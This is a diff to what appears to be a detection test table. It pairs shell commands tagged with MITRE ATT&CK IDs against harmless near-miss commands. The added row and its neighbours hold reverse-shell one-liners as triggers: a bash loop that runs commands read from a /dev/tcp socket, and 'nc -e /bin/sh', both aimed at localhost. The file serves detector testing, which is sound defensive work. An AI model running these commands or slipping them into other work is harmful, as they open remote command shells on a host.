@@ -108,6 +108,11 @@ ROWS = [
         near="@PY@ @S@/actor.py pty-relay-unix",
         why="a shell on a pty relayed to a TCP socket by its parent (pty.spawn after dup2, from "
             "a script file) vs the same relay to a unix socket (a web terminal service)"),
+    Row("shell-dev-tcp-command-loop", "TA0002 T1059.004",
+        # the listener sends "exit" after 2.5 s: the loop runs it and ends
+        trigger="bash -c 'exec 5<>/dev/tcp/127.0.0.1/@PORT@; cat <&5 | while read line; do $line 2>&5 >&5; done'",
+        near="bash -c 'until echo > /dev/tcp/127.0.0.1/@PORT@; do sleep 1; done'",
+        why="commands read from a /dev/tcp connection and run vs a wait-for-port loop"),
     Row("netcat-exec", "TA0002 T1059.004",
         trigger="nc -e /bin/sh 127.0.0.1 @PORT@",
         near="nc -z -w 1 127.0.0.1 @PORT@",
